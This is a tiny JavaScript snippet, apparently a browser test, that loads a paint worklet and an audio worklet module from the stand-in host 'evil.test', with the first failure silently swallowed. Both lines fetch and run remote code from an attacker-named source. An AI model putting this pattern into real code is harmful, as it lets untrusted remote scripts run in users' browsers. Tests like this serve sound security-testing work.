// Code for audio and paint.

try { await CSS.paintWorklet.addModule('http://evil.test/x.js'); } catch {}
await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('http://evil.test/y.js');
